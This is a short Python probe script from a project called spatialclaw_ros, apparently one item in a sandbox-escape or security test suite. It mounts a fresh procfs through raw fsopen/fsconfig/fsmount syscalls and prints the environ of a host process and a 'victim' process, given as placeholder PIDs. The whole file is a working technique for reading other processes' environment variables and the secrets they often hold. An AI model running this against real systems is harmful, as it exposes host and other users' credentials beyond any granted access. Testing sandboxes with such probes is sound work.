# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Mount a fresh /proc without naming a path, and read the environments in it."""

# act: environment
# needs: root

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
context = libc.syscall(430, b'proc', 0)
print(context, libc.syscall(431, context, 6, None, None, 0))
mount = libc.syscall(432, context, 0, 0)
fd = os.open(f'{HOST_PID}/environ', os.O_RDONLY, dir_fd=mount)
print(os.read(fd, 1 << 20))
fd = os.open(f'{VICTIM_PID}/environ', os.O_RDONLY, dir_fd=mount)
print(os.read(fd, 1 << 20))
